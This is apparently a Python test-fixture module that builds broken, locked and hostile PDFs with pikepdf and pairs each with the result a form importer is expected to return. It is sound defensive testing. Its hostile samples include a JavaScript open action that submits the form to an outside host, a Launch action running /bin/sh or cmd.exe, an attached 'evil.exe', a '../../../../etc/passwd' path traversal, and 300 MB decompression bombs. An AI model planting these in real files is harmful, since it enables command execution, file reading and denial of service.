"""PDFs that are broken, locked, endless or armed. Each entry: name, bytes, and what must become of it."""

from __future__ import annotations

import io
import warnings
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

Case = tuple[str, bytes, str]


def pdf_cases(worksheet: bytes, printed: bytes) -> Iterator[Case]:
    """`worksheet` is a filled form of ours, `printed` one without fields."""
    for share in (10, 50, 90, 99):
        yield f"cut-{share}.pdf", worksheet[: len(worksheet) * share // 100], "any"
    yield "head-only.pdf", b"%PDF-1.7\n", "damaged"
    yield "noise-before.pdf", b"junk\n" * 20 + worksheet, "any"
    yield "noise-inside.pdf", worksheet[:20_000] + b"\0" * 500 + worksheet[20_500:], "any"
    yield "printed.pdf", printed, "no_form_fields"
    yield "scan.pdf", _built(lambda pdf: pdf.add_blank_page()), "picture"
    yield "letter.pdf", _letter(), "not_a_worksheet"
    yield "locked.pdf", _locked(worksheet, "secret"), "encrypted"
    yield "locked-for-editing.pdf", _locked(worksheet, ""), "read"
    for name, change in _CHANGES.items():
        yield f"{name}.pdf", _changed(worksheet, change), _ENDS.get(name, "any")
    yield "page-loop.pdf", _page_loop(), "any"
    yield "stream-bomb.pdf", _stream_bomb(), "too_large"
    yield "object-bomb.pdf", _object_bomb(), "any"
    yield "nested-arrays.pdf", _raw(b"<< /Type /Catalog /X " + b"[" * 50_000 + b"]" * 50_000 + b" >>"), "any"
    yield (
        "xref-loop.pdf",
        b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer << /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF",
        "any",
    )
    yield "huge-length.pdf", _raw(b"<< /Type /Catalog >>\nstream\nx\nendstream"), "any"


def _changed(data: bytes, change: Callable[[Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        change(pdf)
        return _saved(pdf)


def _built(change: Callable[[Pdf], object]) -> bytes:
    with pikepdf.new() as pdf:
        change(pdf)
        return _saved(pdf)


def _saved(pdf: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():  # pikepdf says, rightly, that such files are broken
        warnings.simplefilter("ignore")
        pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _locked(data: bytes, password: str) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return _saved(pdf, encryption=pikepdf.Encryption(owner="owner", user=password))


def _letter() -> bytes:
    def write(pdf: Pdf) -> None:
        page = pdf.add_blank_page()
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = Stream(pdf, b"BT /F1 12 Tf 72 700 Td (Dear colleague, this is a letter.) Tj ET")

    return _built(write)


def _fields(pdf: Pdf) -> Array:
    return pdf.Root.AcroForm.Fields


def _many_fields(pdf: Pdf) -> None:
    for number in range(10_000):
        _fields(pdf).append(pdf.make_indirect(Dictionary(FT=Name.Tx, T=String(f"x{number}"), V=String("y"))))


def _field_loop(pdf: Pdf) -> None:
    field = _fields(pdf)[1]
    field.Kids = Array([field])
    _fields(pdf).append(field)


def _field_tower(pdf: Pdf) -> None:
    top = below = pdf.make_indirect(Dictionary(T=String("top")))
    for _ in range(1_500):
        kid = pdf.make_indirect(Dictionary(T=String("t")))
        below.Kids = Array([kid])
        below = kid
    _fields(pdf).append(top)


def _wrong_values(pdf: Pdf) -> None:
    for number, value in enumerate((Array([1]), Dictionary(A=1), 7, True, Name.x)):
        _fields(pdf)[number + 1].V = value


def _wrong_names(pdf: Pdf) -> None:
    for number, value in enumerate((Array([1]), 7, Name.x)):
        _fields(pdf)[number + 1].T = value


def _broken_text(pdf: Pdf) -> None:
    for field in _fields(pdf):
        if field.get("/T") == "learning_1":
            field.V = String(b"\xfe\xff\xd8\x00\x00A\xdc")


def _script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=String("app.alert('x'); this.submitForm('http://x.invalid')")
    )


def _launch(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("cmd.exe")))


def _attached(pdf: Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ" * 1_000


def _huge_text(pdf: Pdf) -> None:
    _fields(pdf)[1].V = String("word " * 1_000_000)


def _text_stream_bomb(pdf: Pdf) -> None:
    packed = zlib.compress(b"a" * 100_000_000, 9)
    stream = Stream(pdf, b"")
    stream.write(packed, filter=Name.FlateDecode)
    _fields(pdf)[1].V = pdf.make_indirect(stream)


def _many_filters(pdf: Pdf) -> None:
    data = b"x" * 100
    for _ in range(40):
        data = zlib.compress(data)
    stream = Stream(pdf, b"")
    stream.write(data, filter=Array([Name.FlateDecode] * 40))
    _fields(pdf)[1].V = pdf.make_indirect(stream)


def _many_pages(pdf: Pdf) -> None:
    for _ in range(1_000):
        pdf.add_blank_page()


def _reference(text: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for field in _fields(pdf):
            if field.get("/T") == "reference":
                field.V = String(text)

    return change


def _no_form(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Array([1, 2])


def _fields_a_word(pdf: Pdf) -> None:
    pdf.Root.AcroForm.Fields = String("none")


def _wild_date(pdf: Pdf) -> None:
    pdf.docinfo["/ModDate"] = "D:99999999999999+99'99'"


_CHANGES: dict[str, Callable[[Pdf], None]] = {
    "ten-thousand-fields": _many_fields,
    "field-loop": _field_loop,
    "field-tower": _field_tower,
    "wrong-values": _wrong_values,
    "wrong-names": _wrong_names,
    "broken-text": _broken_text,
    "script": _script,
    "launch": _launch,
    "attached": _attached,
    "huge-text": _huge_text,
    "text-stream-bomb": _text_stream_bomb,
    "many-filters": _many_filters,
    "many-pages": _many_pages,
    "no-form": _no_form,
    "fields-a-word": _fields_a_word,
    "wild-date": _wild_date,
    "newer-form": _reference("wrenford/child-h/1.0/early-help/plan-9"),
    "other-partnership": _reference("elsewhere/child-h/1.0/early-help/plan-1"),
    "other-briefing": _reference("wrenford/child-z/1.0/early-help/plan-1"),
    "climbing-reference": _reference("../../../../etc/passwd"),
    "endless-reference": _reference("a" * 1_000_000 + "/b/1/c/plan-1"),
}
_ENDS = {
    "ten-thousand-fields": "too_large",
    "many-pages": "too_large",
    "script": "read",
    "launch": "read",
    "attached": "read",
    "huge-text": "too_large",
    "text-stream-bomb": "too_large",
    "broken-text": "read",
    "wild-date": "read",
    "newer-form": "unknown_version",
    "other-partnership": "why_other_partnership",
    "other-briefing": "why_unknown_briefing",
}


def _page_loop() -> bytes:
    def write(pdf: Pdf) -> None:
        pdf.add_blank_page()
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages, pdf.Root.Pages])

    try:
        return _built(write)
    except (pikepdf.PdfError, RuntimeError):  # the writer noticed the loop: write it by hand
        return _raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def _raw(*objects: bytes) -> bytes:
    """A PDF written by hand; the first object is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def _stream_bomb() -> bytes:
    """A content stream of 300 MB."""
    packed = _packed(300_000_000)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return _raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, body)


def _object_bomb() -> bytes:
    """An object stream, which every reader must unfold, of 300 MB; the cross-reference stream points into it."""
    packed = _packed(300_000_000, b"1 0 << /Type /Catalog >> ")
    out = bytearray(b"%PDF-1.7\n")
    first = len(out)
    out += b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
    out += packed + b"\nendstream\nendobj\n"
    table = len(out)
    rows = b"\0" + b"\0" * 5 + b"\2" + (2).to_bytes(4, "big") + b"\0"
    rows += b"\1" + first.to_bytes(4, "big") + b"\0" + b"\1" + table.to_bytes(4, "big") + b"\0"
    out += b"3 0 obj\n<< /Type /XRef /Size 4 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % table
    return bytes(out)


def _packed(size: int, start: bytes = b"") -> bytes:
    packer = zlib.compressobj(9)
    out = packer.compress(start)
    block = b" " * 10_000_000
    for _ in range(size // len(block)):
        out += packer.compress(block)
    return out + packer.flush()
